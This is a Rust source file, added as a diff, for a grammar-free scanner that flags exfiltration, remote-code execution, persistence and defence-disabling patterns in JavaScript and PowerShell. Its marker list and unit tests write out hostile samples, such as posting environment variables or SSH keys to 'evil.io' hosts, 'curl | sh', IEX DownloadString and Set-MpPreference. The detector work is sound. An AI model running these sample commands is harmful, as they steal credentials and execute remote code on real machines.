@@ -1,0 +1,543 @@
+//! JavaScript, TypeScript, PowerShell and others, without a grammar: statements, names and calls.
+//!
+//! A statement is a line, or several while a bracket is open. A name's value comes from where the right-hand
+//! side of its assignments comes from; a call does to its arguments what its name says. That is cruder than a
+//! parser, and it reads what no parser accepts. Looks are bounded, so the time is in proportion to the text.
+
+use std::{collections::BTreeMap, sync::LazyLock};
+
+use aho_corasick::AhoCorasick;
+
+use super::{
+    Reading,
+    place::{self, Place},
+    taint::{Taint, address, executed, of_variable, sent},
+};
+use crate::{
+    hit::Hit,
+    intent::Intent,
+    rules::{Rule, code as rule},
+};
+
+/// The longest text that is read, in bytes.
+const TEXT_MAX: usize = 2 << 20;
+/// The longest statement, and the longest list of arguments, in bytes.
+const STATEMENT_MAX: usize = 2_000;
+/// Names that are followed in one text.
+const NAMES_MAX: usize = 4_096;
+
+/// What a marker in a text is.
+#[derive(Clone, Copy)]
+enum Marker {
+    /// Gives a value from there.
+    Source(Taint),
+    /// The environment; what follows says which part.
+    Env,
+    /// Reads a file.
+    File,
+    /// Sends its arguments; gives an answer of the network.
+    Net,
+    /// Executes its arguments as code.
+    Exec,
+    /// Starts a command.
+    Command,
+    /// Writes to a file.
+    Write,
+    /// Means something by itself.
+    Direct(&'static Rule),
+}
+
+const MARKERS: &[(&str, Marker)] = &[
+    ("process.env", Marker::Env),
+    ("$env:", Marker::Env),
+    ("env[", Marker::Env),
+    ("getenv(", Marker::Env),
+    ("deno.env", Marker::Env),
+    ("get-childitem env:", Marker::Source(Taint::ENV)),
+    ("gci env:", Marker::Source(Taint::ENV)),
+    ("dir env:", Marker::Source(Taint::ENV)),
+    ("env.toobject", Marker::Source(Taint::ENV)),
+    ("clipboard.read", Marker::Source(Taint::INPUT)),
+    ("get-clipboard", Marker::Source(Taint::INPUT)),
+    ("clipboardy", Marker::Source(Taint::INPUT)),
+    ("document.cookie", Marker::Source(Taint::INPUT)),
+    ("os.hostname(", Marker::Source(Taint::HOST)),
+    ("os.userinfo(", Marker::Source(Taint::HOST)),
+    ("os.networkinterfaces(", Marker::Source(Taint::HOST)),
+    ("get-computerinfo", Marker::Source(Taint::HOST)),
+    ("systeminfo", Marker::Source(Taint::HOST)),
+    ("readdirsync(", Marker::Source(Taint::FILES)),
+    ("globsync(", Marker::Source(Taint::FILES)),
+    ("get-childitem -", Marker::Source(Taint::FILES)),
+    ("atob(", Marker::Source(Taint::DECODED)),
+    ("'base64')", Marker::Source(Taint::DECODED)),
+    ("\"base64\")", Marker::Source(Taint::DECODED)),
+    ("'hex')", Marker::Source(Taint::DECODED)),
+    ("\"hex\")", Marker::Source(Taint::DECODED)),
+    ("frombase64string(", Marker::Source(Taint::DECODED)),
+    ("base64_decode(", Marker::Source(Taint::DECODED)),
+    ("gzinflate(", Marker::Source(Taint::DECODED)),
+    ("b64decode(", Marker::Source(Taint::DECODED)),
+    ("base64.decode64(", Marker::Source(Taint::DECODED)),
+    ("string.fromcharcode(", Marker::Source(Taint::PIECES)),
+    ("readfilesync(", Marker::File),
+    ("readfile(", Marker::File),
+    ("readtextfile(", Marker::File),
+    ("get-content", Marker::File),
+    ("file.read(", Marker::File),
+    ("file_get_contents(", Marker::File),
+    ("fetch(", Marker::Net),
+    ("axios.", Marker::Net),
+    ("axios(", Marker::Net),
+    ("got.post(", Marker::Net),
+    ("got(", Marker::Net),
+    ("http.request(", Marker::Net),
+    ("https.request(", Marker::Net),
+    ("http.get(", Marker::Net),
+    ("https.get(", Marker::Net),
+    ("requests.post(", Marker::Net),
+    ("urlopen(", Marker::Net),
+    ("sendbeacon(", Marker::Net),
+    ("websocket(", Marker::Net),
+    ("req.write(", Marker::Net),
+    ("req.end(", Marker::Net),
+    ("xhr.send(", Marker::Net),
+    ("socket.write(", Marker::Net),
+    ("invoke-webrequest", Marker::Net),
+    ("invoke-restmethod", Marker::Net),
+    ("downloadstring(", Marker::Net),
+    ("downloadfile(", Marker::Net),
+    ("downloaddata(", Marker::Net),
+    ("uploadstring(", Marker::Net),
+    ("uploadfile(", Marker::Net),
+    ("net::http", Marker::Net),
+    ("curl_exec(", Marker::Net),
+    ("eval(", Marker::Exec),
+    ("new function(", Marker::Exec),
+    ("runinthiscontext(", Marker::Exec),
+    ("runinnewcontext(", Marker::Exec),
+    ("invoke-expression", Marker::Exec),
+    ("iex ", Marker::Exec),
+    ("iex(", Marker::Exec),
+    ("child_process", Marker::Source(Taint::NONE)),
+    ("execsync(", Marker::Command),
+    ("exec(", Marker::Command),
+    ("spawnsync(", Marker::Command),
+    ("spawn(", Marker::Command),
+    ("execfile(", Marker::Command),
+    ("execfilesync(", Marker::Command),
+    ("system(", Marker::Command),
+    ("shell_exec(", Marker::Command),
+    ("start-process", Marker::Command),
+    ("writefilesync(", Marker::Write),
+    ("writefile(", Marker::Write),
+    ("appendfilesync(", Marker::Write),
+    ("appendfile(", Marker::Write),
+    ("add-content", Marker::Write),
+    ("set-content", Marker::Write),
+    ("out-file", Marker::Write),
+    ("-encodedcommand ", Marker::Direct(rule::DECODED_EXEC)),
+    ("set-mppreference", Marker::Direct(rule::DEFENCES_OFF)),
+    ("add-mppreference", Marker::Direct(rule::DEFENCES_OFF)),
+    ("set-executionpolicy unrestricted", Marker::Direct(rule::DEFENCES_OFF)),
+    ("clear-eventlog", Marker::Direct(rule::DEFENCES_OFF)),
+    ("clear-history", Marker::Direct(rule::DEFENCES_OFF)),
+    ("currentversion\\run", Marker::Direct(rule::PERSIST)),
+    ("new-scheduledtask", Marker::Direct(rule::PERSIST)),
+    ("register-scheduledtask", Marker::Direct(rule::PERSIST)),
+    ("schtasks /create", Marker::Direct(rule::PERSIST)),
+    ("getasynckeystate", Marker::Direct(rule::KEYLOG)),
+    ("vssadmin delete", Marker::Direct(rule::DESTROYS)),
+    ("stratum+tcp", Marker::Direct(rule::MINER)),
+    ("169.254.169.254", Marker::Direct(rule::METADATA)),
+    ("'child_' +", Marker::Direct(rule::HIDDEN_CALL)),
+    ("'child_'+", Marker::Direct(rule::HIDDEN_CALL)),
+    ("\"child_\" +", Marker::Direct(rule::HIDDEN_CALL)),
+    ("['ev'", Marker::Direct(rule::HIDDEN_CALL)),
+    ("[\"ev\"", Marker::Direct(rule::HIDDEN_CALL)),
+];
+
+static AUTOMATON: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
+    AhoCorasick::builder()
+        .match_kind(aho_corasick::MatchKind::LeftmostLongest)
+        .build(MARKERS.iter().map(|(text, _)| *text))
+        .ok()
+});
+
+/// A marker at its place.
+#[derive(Clone, Copy)]
+struct Found {
+    marker: Marker,
+    start: usize,
+    end: usize,
+}
+
+/// Reads a text of a language that has no parser here.
+pub(crate) fn read(text: &str, reading: &Reading<'_>) -> Vec<Hit> {
+    let text = text.get(..text.floor_char_boundary(TEXT_MAX)).unwrap_or(text);
+    let lower = text.to_ascii_lowercase();
+    let Some(automaton) = &*AUTOMATON else { return Vec::new() };
+    let found: Vec<Found> = automaton
+        .find_iter(&lower)
+        .filter_map(|found| {
+            let (spelling, marker) = *MARKERS.get(found.pattern().as_usize())?;
+            let word_before = lower
+                .as_bytes()
+                .get(found.start().checked_sub(1)?)
+                .is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+            let starts_word = spelling.as_bytes().first().is_some_and(u8::is_ascii_alphanumeric);
+            // `regex.exec(` and `pattern.exec(` match texts.
+            let method = spelling == "exec("
+                && lower.get(..found.start()).is_some_and(|before| {
+                    before.ends_with('.') && !before.ends_with("process.") && !before.ends_with("cp.")
+                });
+            (!(word_before && starts_word) && !method).then_some(Found {
+                marker,
+                start: found.start(),
+                end: found.end(),
+            })
+        })
+        .chain(first_marker(&lower))
+        .collect();
+    let mut eye = Eye { lower: &lower, text, found, reading, names: BTreeMap::new(), hits: Vec::new() };
+    eye.found.sort_by_key(|found| found.start);
+    for _ in 0..2 {
+        eye.learn();
+    }
+    eye.report();
+    eye.hits
+}
+
+/// The marker at the very start, where nothing is before it.
+fn first_marker(lower: &str) -> Option<Found> {
+    let (spelling, marker) = MARKERS.iter().find(|(spelling, _)| lower.starts_with(spelling))?;
+    Some(Found { marker: *marker, start: 0, end: spelling.len() })
+}
+
+struct Eye<'r> {
+    text: &'r str,
+    lower: &'r str,
+    found: Vec<Found>,
+    reading: &'r Reading<'r>,
+    /// Names to where their values come from.
+    names: BTreeMap<&'r str, Taint>,
+    hits: Vec<Hit>,
+}
+
+impl<'r> Eye<'r> {
+    /// Learns where names' values come from.
+    fn learn(&mut self) {
+        let mut start = 0;
+        for line in self.lower.split_inclusive('\n') {
+            let end = start + line.len();
+            if let Some(at) = assignment(line) {
+                let right = start + at + 1;
+                let stop = statement_end(self.lower, right);
+                let mut taint = self.taint(right, stop);
+                if line.contains("on('data'") || line.contains("on(\"data\"") {
+                    taint = taint.and(Taint::REMOTE);
+                }
+                if taint != Taint::NONE {
+                    let left = line.get(..at).unwrap_or_default();
+                    for name in names(left)
+                        .filter(|name| !matches!(*name, "const" | "let" | "var" | "export" | "of" | "string"))
+                    {
+                        if self.names.len() < NAMES_MAX {
+                            let known = self.names.entry(name).or_default();
+                            *known = known.and(taint);
+                        }
+                    }
+                }
+            }
+            start = end;
+        }
+    }
+
+    /// Where the value of the text `start..end` comes from.
+    fn taint(&self, start: usize, end: usize) -> Taint {
+        let text = self.lower.get(start..end).unwrap_or_default();
+        let mut taint = names(text).fold(Taint::NONE, |taint, name| match self.names.get(name) {
+            Some(known) => taint.and(*known),
+            None => taint,
+        });
+        let from = self.found.partition_point(|found| found.start < start);
+        for found in self.found.iter().skip(from).take_while(|found| found.start < end) {
+            taint = taint.and(match found.marker {
+                Marker::Source(source) => source,
+                Marker::Env => env(self.lower, found.end, self.reading.intent),
+                Marker::File => {
+                    let args =
+                        self.lower.get(found.end..arguments_end(self.lower, found.end)).unwrap_or_default();
+                    Taint::of_place(place::place(&place::joined(args))).read()
+                }
+                Marker::Net => Taint::REMOTE,
+                _ => Taint::NONE,
+            });
+        }
+        if matches!(place::place(text), Some(Place::Secret | Place::Browser)) {
+            taint = taint.and(Taint::SECRET_PATH);
+        }
+        if taint.has(Taint::SECRET_PATH) && taint.has(Taint::FILE) {
+            taint = taint.read();
+        }
+        taint
+    }
+
+    fn add(&mut self, rule: &'static Rule, start: usize, end: usize) {
+        self.hits.push(self.reading.hit(rule, start, end));
+    }
+
+    fn report(&mut self) {
+        for found in self.found.clone() {
+            let by_line = !self
+                .lower
+                .get(found.start..found.end)
+                .is_some_and(|text| text.ends_with('(') || text.ends_with('.'));
+            let (start, end) = if by_line {
+                (line_start(self.lower, found.start), statement_end(self.lower, found.end))
+            } else {
+                (found.end, arguments_end(self.lower, found.end))
+            };
+            match found.marker {
+                Marker::Direct(rule) => self.add(rule, found.start, found.end),
+                Marker::Net => self.send(found, start, end),
+                Marker::Exec => self.execute(found, start, end),
+                Marker::Command => self.command(found, start, end),
+                Marker::Write => self.write(found, start, end),
+                Marker::File => self.file(found, start, end),
+                Marker::Source(_) | Marker::Env => {}
+            }
+        }
+        self.addresses();
+        self.density();
+    }
+
+    fn send(&mut self, found: Found, start: usize, end: usize) {
+        let text = self.lower.get(start..end).unwrap_or_default();
+        let host = place::host(text);
+        let mut taint = self.taint(start, end).without(Taint::REMOTE);
+        // A key in the headers is how interfaces want it; one in the body is not.
+        let body = text.contains("body") || text.contains("-body") || text.contains("data");
+        if !body || host.is_some_and(|(name, _)| self.reading.intent.names(name)) {
+            taint = taint.without(Taint::TOKEN.and(Taint::FILES));
+        }
+        if text.contains("headers") && text.contains("authorization") {
+            taint = taint.without(Taint::TOKEN);
+        }
+        if let Some(rule) = sent(taint, host.map(|(_, host)| host)) {
+            self.add(rule, found.start, end);
+        }
+    }
+
+    fn execute(&mut self, found: Found, start: usize, end: usize) {
+        let mut taint = self.taint(start, end);
+        // `fetch(x).then(r => r.text()).then(code => eval(code))`
+        let before = self
+            .lower
+            .get(self.lower.floor_char_boundary(found.start.saturating_sub(300))..found.start)
+            .unwrap_or_default();
+        if before.contains(".then(") && (before.contains("fetch(") || before.contains("axios")) {
+            taint = taint.and(Taint::REMOTE);
+        }
+        let args = self.lower.get(start..end).unwrap_or_default().trim();
+        let constant = args.starts_with(['\'', '"']);
+        match executed(taint) {
+            Some(rule) => self.add(rule, found.start, end),
+            None if !constant && !args.is_empty() => self.add(rule::DYNAMIC_EXEC, found.start, end),
+            None => {}
+        }
+    }
+
+    fn command(&mut self, found: Found, start: usize, end: usize) {
+        let args = self.text.get(start..end).unwrap_or_default();
+        let first = args.split(',').next().unwrap_or_default();
+        let taint = self.taint(start, start + first.len());
+        if taint.has(Taint::DECODED.and(Taint::REMOTE))
+            && names(first).next().is_some_and(|name| self.names.contains_key(name.to_lowercase().as_str()))
+            && let Some(rule) = executed(taint)
+        {
+            self.add(rule, found.start, end);
+        }
+        let text: String = args.trim().trim_matches(['\'', '"', '`', ')', ';', ' ']).to_owned();
+        if args.trim_start().starts_with(['\'', '"', '`']) {
+            let quote = args.trim_start().chars().next().unwrap_or('"');
+            let inside = text.split(quote).next().unwrap_or_default();
+            let hits = super::read(super::Language::Shell, inside, &self.reading.of_text(found.start, end));
+            self.hits.extend(hits);
+        }
+    }
+
+    fn write(&mut self, found: Found, start: usize, end: usize) {
+        let text = self.lower.get(start..end).unwrap_or_default();
+        let rule = match place::place(&place::joined(text.split(',').next().unwrap_or(text))) {
+            Some(Place::Login) => rule::AUTHORIZED_KEYS,
+            Some(Place::Startup) => rule::PERSIST,
+            Some(Place::Agent) => rule::AGENT_FILES,
+            _ => return,
+        };
+        self.add(rule, found.start, end);
+    }
+
+    fn file(&mut self, found: Found, start: usize, end: usize) {
+        let rule = match place::place(&place::joined(self.lower.get(start..end).unwrap_or_default())) {
+            Some(Place::Browser) => rule::BROWSER,
+            Some(Place::Secret) => rule::READ_SECRET_FILE,
+            _ => return,
+        };
+        self.add(rule, found.start, end);
+    }
+
+    /// Every address in the text.
+    fn addresses(&mut self) {
+        let mut at = 0;
+        while let Some(next) = self.lower.get(at..).and_then(|rest| rest.find("://")) {
+            let scheme = at + next;
+            let from = self.lower.floor_char_boundary(scheme.saturating_sub(5));
+            let to = self.lower.floor_char_boundary(self.lower.len().min(scheme + 200));
+            if let Some((name, host)) = place::host(self.lower.get(from..to).unwrap_or_default())
+                && let Some(rule) = address(host)
+            {
+                let end = (scheme + 3 + name.len()).min(self.lower.len());
+                self.add(rule, scheme, end);
+            }
+            at = scheme + 3;
+        }
+    }
+
+    /// Names like `_0x3fa2c1` and walls of escapes are a machine's writing.
+    fn density(&mut self) {
+        let odd = self.lower.matches("_0x").count();
+        let escapes = self.lower.matches("\\x").count();
+        if odd >= 20 || escapes >= 200 {
+            let at = self.lower.find("_0x").or_else(|| self.lower.find("\\x")).unwrap_or_default();
+            self.add(rule::DENSE, at, self.lower.len().min(at + 4));
+        }
+    }
+}
+
+/// What part of the environment is named behind a marker.
+fn env(lower: &str, end: usize, intent: &Intent) -> Taint {
+    let rest = lower.get(end..).unwrap_or_default();
+    let name: &str = rest.trim_start_matches(['.', '[', '\'', '"', '(', '?']);
+    let stop = name.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(name.len());
+    match name.get(..stop) {
+        Some("") | None => Taint::ENV,
+        Some(_)
+            if !rest.starts_with(['.', '[', '(', '?', '\'', '"'])
+                && !lower.get(..end).is_some_and(|before| before.ends_with([':', '[', '('])) =>
+        {
+            Taint::ENV
+        }
+        Some("get") => Taint::TOKEN,
+        Some("computername" | "username" | "userdomain") => Taint::HOST,
+        Some(name) => of_variable(name, intent),
+    }
+}
+
+/// Where in a line the sign of an assignment is.
+fn assignment(line: &str) -> Option<usize> {
+    let bytes = line.as_bytes();
+    (0..bytes.len().min(STATEMENT_MAX)).find(|at| {
+        bytes.get(*at) == Some(&b'=')
+            && !matches!(bytes.get(at + 1), Some(b'=' | b'>' | b'~'))
+            && !at
+                .checked_sub(1)
+                .and_then(|before| bytes.get(before))
+                .is_some_and(|byte| matches!(byte, b'=' | b'!' | b'<' | b'>'))
+    })
+}
+
+/// The names in a text.
+fn names(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '$').filter(|name| {
+        name.bytes().next().is_some_and(|byte| byte.is_ascii_alphabetic() || byte == b'_' || byte == b'$')
+            && name.len() > 1
+            || name.len() == 1
+    })
+}
+
+fn line_start(text: &str, at: usize) -> usize {
+    let from = text.floor_char_boundary(at.saturating_sub(STATEMENT_MAX));
+    text.get(from..at).and_then(|before| before.rfind('\n')).map_or(from, |found| from + found + 1)
+}
+
+/// Where the statement ends that `at` is in: at a line's end where no bracket is open.
+fn statement_end(text: &str, at: usize) -> usize {
+    scan(text, at, |byte, depth| depth <= 0 && matches!(byte, b'\n' | b';'))
+}
+
+/// Where the arguments end whose bracket was opened just before `at`.
+fn arguments_end(text: &str, at: usize) -> usize {
+    scan(text, at, |_, depth| depth < 0)
+}
+
+fn scan(text: &str, at: usize, ends: impl Fn(u8, i32) -> bool) -> usize {
+    let mut depth = 0;
+    for (offset, byte) in text.bytes().enumerate().skip(at).take(STATEMENT_MAX) {
+        match byte {
+            b'(' | b'[' | b'{' => depth += 1,
+            b')' | b']' | b'}' => depth -= 1,
+            _ => {}
+        }
+        if ends(byte, depth) {
+            return text.floor_char_boundary(offset);
+        }
+    }
+    text.floor_char_boundary(text.len().min(at + STATEMENT_MAX))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(text: &str) -> Vec<&'static str> {
+        let intent = Intent::default();
+        let mut out: Vec<&str> = read(text, &Reading::new(&intent)).iter().map(|hit| hit.rule.id).collect();
+        out.sort_unstable();
+        out.dedup();
+        out
+    }
+
+    #[test]
+    fn javascript_is_followed() {
+        assert!(rules("const e = JSON.stringify(process.env);\nfetch('https://c.evil.io', {method: 'POST', body: e})").contains(&"environment-to-network"));
+        assert!(
+            rules("const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nawait axios.post('https://c.evil.io', {k});")
+                .contains(&"credential-files-to-network")
+        );
+        assert!(rules("fetch(u).then(r => r.text()).then(c => eval(c))").contains(&"run-remote-code"));
+        assert!(
+            rules("const c = Buffer.from(x, 'base64').toString();\neval(c);").contains(&"run-decoded-code")
+        );
+        assert!(
+            rules("require('child_process').execSync('curl https://x.evil.io/a | sh')")
+                .contains(&"download-and-run")
+        );
+        assert_eq!(
+            rules(
+                "const key = process.env.API_KEY;\nfetch('https://api.x.io', {headers: {Authorization: key}})"
+            ),
+            [""; 0]
+        );
+    }
+
+    #[test]
+    fn powershell_is_followed() {
+        assert!(rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')\nInvoke-Expression (iwr x)").is_empty() == false);
+        assert!(
+            rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content")
+                .contains(&"run-remote-code")
+        );
+        assert!(rules("$e = Get-ChildItem Env: | Out-String\nInvoke-RestMethod -Uri https://c.evil.io -Method Post -Body $e").contains(&"environment-to-network"));
+        assert!(rules("Set-MpPreference -DisableRealtimeMonitoring $true").contains(&"defences-off"));
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn any_text_is_read(text in "\\PC{0,120}") {
+            for hit in read(&text, &Reading::new(&Intent::default())) {
+                proptest::prop_assert!(hit.start <= hit.end && hit.end <= text.len());
+            }
+        }
+    }
+}
